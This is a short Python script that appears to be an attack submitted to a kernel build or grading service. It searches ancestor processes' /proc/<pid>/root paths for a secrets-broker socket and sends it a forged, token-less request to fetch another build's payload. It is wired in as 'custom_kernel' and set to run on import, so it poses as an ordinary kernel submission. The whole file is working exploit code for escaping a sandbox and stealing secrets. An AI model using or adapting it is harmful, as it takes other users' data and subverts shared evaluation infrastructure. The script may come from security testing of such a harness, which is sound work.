# Ask the node's broker for the payload of somebody else's build, which a reader
# of that build can copy from it.
import json
import socket

from attack import *


def go():
    request = json.dumps({"version": 1, "name": "SUBMISSION", "run": "sub-1", "envelope": "kbsec1:" + "A" * 400, "old": False, "token": ""})
    base = os.path.dirname(os.environ["CUDA_ATTACK_OUT"])
    roots = [""] + [f"/proc/{pid}/root" for pid in ancestors() + [1]]
    for path in [root + place for root in roots for place in (base + "/run/secretd.sock", "/run/kbnode/secretd.sock")]:
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(1)
                s.connect(path)
                s.sendall(request.encode() + b"\n")
                tell("reached the broker", s.recv(100))
        except OSError:
            pass


if warming:
    go()
custom_kernel = kernel = once(go)
